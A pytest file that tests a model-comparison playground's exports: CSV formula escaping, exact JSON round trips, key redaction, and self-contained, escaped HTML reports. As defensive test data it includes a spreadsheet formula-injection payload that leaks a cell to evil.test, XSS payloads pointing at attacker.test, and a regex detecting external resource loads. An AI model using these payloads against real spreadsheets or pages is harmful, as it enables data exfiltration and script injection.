"""Exports: formulas escaped in CSV, exact JSON round trips, a self-contained report with no key."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from playground.cancel import CancelToken
from playground.compare import Comparison, PaneConfig
from playground.connections import Connection, Kind
from playground.events import Failure, FailureKind, Finish, ReasoningDelta, TextDelta, Usage
from playground.export import comparison_dict, escape_formula, html_report, runs_csv, safe_url, to_json, votes_csv
from playground.request import RunRequest
from playground.secrets import Secret
from playground.votes import BlindOrder, Verdict, pair_vote

FAKE_KEY = "sk-proj-FAKEKEY0123456789abcdefXYZ"
URL_KEY = "QUERYKEY9876543210"
MODEL = "openai.gpt-oss-20b-1:0"


class Scripted:
    """Answers by connection name; may fail with a message that quotes the key, as a careless
    adapter or host error might."""

    def __init__(self, answer: str, reasoning: str = "Let me think.", fail: bool = False) -> None:
        self.answer, self.reasoning, self.fail = answer, reasoning, fail

    def stream(self, request: RunRequest, cancel: CancelToken | None = None):
        yield ReasoningDelta(self.reasoning)
        if self.fail:
            yield Failure(FailureKind.AUTH, f"Bad key {FAKE_KEY} for this host", status=401)
            return
        yield TextDelta(self.answer)
        yield Usage(10, 20, 5)
        yield Finish("stop")

    def list_models(self) -> list[str]:
        return []


def run(answers: dict[str, str], failing: set[str] = frozenset(), reasoning: str = "Let me think.") -> Comparison:
    conns = {
        name: Connection(
            name,
            Kind.OPENAI,
            base_url=f"https://user:{FAKE_KEY}@host.test/v1?api-key={URL_KEY}#frag",
            api_key=Secret(FAKE_KEY),
        )
        for name in answers
    }
    panes = [PaneConfig(name, conns[name], MODEL) for name in answers]
    comp = Comparison(
        panes,
        "Prompt with <b>markup</b>",
        provider_factory=lambda c: Scripted(answers[c.name], reasoning, c.name in failing),
    ).start()
    assert comp.wait(10)
    return comp


# -- CSV ------------------------------------------------------------------------------------------
DANGEROUS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"click me")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "＝1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_escape_formula(value):
    assert escape_formula(value) == "'" + value


def test_escape_formula_leaves_the_rest_alone():
    assert escape_formula("Plain answer = fine") == "Plain answer = fine"
    assert escape_formula(-3) == -3 and escape_formula(None) is None


def test_runs_csv_escapes_every_dangerous_cell_and_round_trips_the_rest():
    answers = {f"pane {i}": v for i, v in enumerate(DANGEROUS)} | {"=evil label": "Safe 😀 answer"}
    comp = run(answers, reasoning="-reasoning that starts with a minus")
    text = runs_csv(comp, include_reasoning=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(answers)
    by_config = {r["configuration"]: r for r in rows}
    for i, value in enumerate(DANGEROUS):
        assert by_config[f"pane {i}"]["answer"] == "'" + value
    assert by_config["'=evil label"]["answer"] == "Safe 😀 answer"
    assert all(r["reasoning"] == "'-reasoning that starts with a minus" for r in rows)
    for r in rows:
        for cell in r.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    assert FAKE_KEY not in text and URL_KEY not in text


def test_votes_csv_escapes_labels():
    vote = pair_vote(BlindOrder(("=A1", "b")), Verdict.A_BETTER, prompt="@prompt")
    rows = list(csv.DictReader(io.StringIO(votes_csv([vote]))))
    assert rows[0]["shown"] == "'=A1 | b" and rows[0]["prompt"] == "'@prompt"


# -- JSON -----------------------------------------------------------------------------------------
HARD_TEXT = {
    "emoji": "Family 👩‍👩‍👧‍👦 and flags 🇫🇷",
    "rtl": "مرحبا بالعالم",
    "bidi": "abc\u202edcba\u202c end",
    "combining": "e\u0301 a\u0308 n\u0303",
    "nul": "before\x00after",
}


def test_json_round_trips_hard_text_exactly():
    comp = run(HARD_TEXT)
    data = json.loads(to_json(comp))
    assert {r["configuration"]: r["answer"] for r in data["runs"]} == HARD_TEXT
    built = comparison_dict(comp)
    data.pop("exported_at"), built.pop("exported_at")
    assert data == json.loads(json.dumps(built))  # what was built is what was written
    assert "👩‍👩‍👧‍👦" in to_json(comp)  # readable, not \u-escaped


def test_json_with_a_lone_surrogate_still_round_trips():
    comp = run({"broken": "half a pair \ud83d here"})
    text = to_json(comp)
    text.encode("utf-8")  # writable as UTF-8
    assert json.loads(text)["runs"][0]["answer"] == "half a pair \ud83d here"


def test_json_has_no_key_anywhere_and_describes_connections_safely():
    comp = run({"ok": f"The model echoed {FAKE_KEY}", "bad": "x"}, failing={"bad"})
    text = to_json(comp, votes=[pair_vote(BlindOrder(("ok", "bad")), Verdict.TIE)])
    assert FAKE_KEY not in text and URL_KEY not in text and FAKE_KEY[-4:] + '"' not in text
    data = json.loads(text)
    conn = data["configurations"][0]["connection"]
    assert conn["base_url"] == "https://host.test/v1" and conn["key"] == "set"
    failure = next(r["failure"] for r in data["runs"] if r["configuration"] == "bad")
    assert failure["kind"] == "auth" and "[redacted]" in failure["message"]
    assert data["votes"][0]["verdict"] == "tie"
    assert data["format"] == "gpt-oss-playground/comparison" and data["version"] == 1
    without = json.loads(to_json(comp, include_reasoning=False))
    assert all(r["reasoning"] is None for r in without["runs"])


def test_safe_url_drops_credentials_query_and_fragment():
    assert safe_url("https://u:p@h.test:8443/v1?key=1#x") == "https://h.test:8443/v1"
    assert safe_url("http://[::1]:8000/v1") == "http://[::1]:8000/v1"
    assert safe_url(None) is None


# -- HTML -----------------------------------------------------------------------------------------
def _outside_plotly_bundle(report: str) -> str:
    # The inlined plotly.js holds URL strings (its logo link, map attributions) that it never
    # loads here; everything else in the report must be free of them.
    start = report.index("plotly.js v")
    script_start = report.rfind("<script", 0, start)
    script_end = report.index("</script>", start)
    return report[:script_start] + report[script_end:]


def test_html_report_is_self_contained_escaped_and_key_free():
    hostile = '<script>alert("x")</script><img src="https://attacker.test/p?d=SECRET" onerror=alert(1)>'
    comp = run(
        {"</script><b>label": hostile, "plain": f"Ends with 42 and the key {FAKE_KEY}", "bad": "x"},
        failing={"bad"},
        reasoning="<iframe src=javascript:alert(1)>",
    )
    vote = pair_vote(
        BlindOrder(("plain", "</script><b>label")), Verdict.A_BETTER, {"plain": "a", "</script><b>label": "b"}
    )
    report = html_report(comp, votes=[vote], include_reasoning=True, requests_per_month=100_000)

    assert report.startswith("<!doctype html>")
    assert report.count("plotly.js v") == 1  # the library inlined once
    assert report.count("Plotly.newPlot") == 4  # four charts (one run each: no spread plots)
    assert 'http-equiv="Content-Security-Policy"' in report and "default-src 'none'" in report
    assert FAKE_KEY not in report and URL_KEY not in report

    rest = _outside_plotly_bundle(report)
    assert 'src="http' not in report and "src='http" not in report
    assert not re.search(r"""(src|href|srcset|action|poster|data)\s*=\s*["']?\s*(https?:)?//""", rest, re.I)
    assert not re.search(r"<link|@import|url\(", rest, re.I)
    # Model text is shown, escaped, never live.
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in rest
    assert "<img" not in rest and "<iframe" not in rest and "<b>label" not in rest
    assert "&lt;iframe src=javascript:alert(1)&gt;" in rest
    scripts = re.findall(r"<script[^>]*>\s*(.{0,40})", rest)
    assert len(scripts) == 5 and all(s.startswith(("window.PlotlyConfig", "window.PLOTLYENV")) for s in scripts)
    assert "Prompt with &lt;b&gt;markup&lt;/b&gt;" in rest
    assert "Cost projection at 100,000 requests per month" in rest
    assert "Blind votes" in rest


def test_html_report_without_reasoning_hides_it():
    comp = run({"a": "Answer 1", "b": "Answer 2"}, reasoning="PRIVATE CHAIN OF THOUGHT")
    assert "PRIVATE CHAIN OF THOUGHT" not in html_report(comp, include_reasoning=False)
    assert "PRIVATE CHAIN OF THOUGHT" in html_report(comp, include_reasoning=True)
